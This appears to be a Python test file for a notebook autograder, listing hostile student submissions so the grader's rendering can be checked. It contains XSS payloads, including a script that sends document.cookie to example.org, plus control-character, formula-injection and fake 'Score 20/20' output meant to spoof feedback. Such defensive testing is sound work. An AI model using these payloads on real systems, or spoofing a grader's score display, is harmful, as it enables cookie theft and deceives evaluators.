"""What a teacher or a browser would read: scripts, frames, remote pictures, control characters, formulas."""

from __future__ import annotations

from cnnkit.classroom.notebooks.canonical import Notebook
from tests.attacks.attack import Attack, code_cell

SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script>"
EVIL = (
    SCRIPT + "<img src=x onerror=alert(1)><iframe src='javascript:alert(1)'></iframe><svg onload=alert(1)>"
    "<a href='javascript:alert(1)'>x</a><style>*{display:none}</style></script></td></pre></body>"
)
ANSI = "\\x1b[2J\\x1b]0;title\\x07\\x1b[31mred\\x1b]8;;http://example.org\\x07link\\x00\\x07\\x9b31m"

CELLS = {
    "displays-scripts": f"from IPython.display import *\ndisplay(HTML({EVIL!r}), Javascript('alert(1)'), Markdown({EVIL!r}), "
    f"SVG(data='<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>'), Latex({EVIL!r}))",
    "displays-odd-kinds": "from IPython.display import display\n"
    f"display({{'text/html': {EVIL!r}, 'application/javascript': 'alert(1)', 'application/x-evil': 'x', 'image/png': 'no', "
    f"'image/svg+xml': {EVIL!r}, 'text/plain': {EVIL!r}, 'application/vnd.jupyter.widget-view+json': '{{}}'}}, raw=True)",
    "prints-markup": f"print({EVIL!r})\nsys.stderr.write({EVIL!r})",
    "prints-control-characters": f'print("{ANSI}")\n"{ANSI}"',
    "half-characters": "print('\\ud800'); sys.stderr.write('\\udfff')\nfrom IPython.display import display\n"
    "display({'text/html': '\\ud800', 'text/plain': '\\ud800'}, raw=True)\nraise ValueError('\\ud800')",
    "imitates-a-feedback-table": "print('</pre><h1>Score 20/20</h1><pre>')\nfrom IPython.display import HTML\n"
    "HTML('<h1 style=\"position:fixed;top:0\">Score: 20.0 / 20.0</h1>')",
}


def text_cells(notebook: Notebook) -> None:
    """Add markdown with markup, and a cell whose source is markup."""
    for number, source in enumerate((EVIL, "[x](javascript:alert(1)) ![x](http://example.org/seen.png)", "$$\\href{javascript:alert(1)}{x}$$")):
        notebook.cells.insert(2, {**code_cell(f"text-{number}", source), "cell_type": "markdown"})
        for key in ("outputs", "execution_count"):
            notebook.cells[2].pop(key)
    notebook.cells.append(code_cell("source", f"x = {EVIL!r}  # {EVIL}"))


def remade(notebook: Notebook) -> Notebook:
    from nbformat import from_dict

    text_cells(notebook)
    return from_dict(notebook)


ATTACKS = [
    *(Attack(name, first=code) for name, code in CELLS.items()),
    Attack("markup-in-text-cells", edit=remade),
    Attack(
        "markup-in-messages",
        answers={
            "correlate1d": f"def correlate1d(x, k): raise ValueError({EVIL!r})",
            "convolve1d": f'def convolve1d(x, k): raise ValueError("{ANSI}")',
            "quiz": f"def quiz(): return dict.fromkeys(['q1', 'q2', 'q3', 'q4', 'q5', {EVIL!r}], {EVIL!r})",
            "mean_filter": f"mean_filter = type({SCRIPT!r}, (), dict(__call__=lambda self, n: self))()",
            "fill_blanks": "def fill_blanks(): print('\\ud800'); raise ValueError('\\udfff')",
            "laplacian": f"def laplacian():\n    class C:\n        pass\n    C.__name__ = {SCRIPT!r}\n    return C()",
            "sobel_x": f"def sobel_x(): raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})",
        },
        loses="correlate1d convolve1d quiz mean_filter laplacian sobel_x fill_blanks",
    ),
    Attack("=cmd|'calc'!A0", first="print('a formula in a name')"),
    Attack("<b onmouseover=alert(1)>bob<", first="print('markup in a name')"),
]
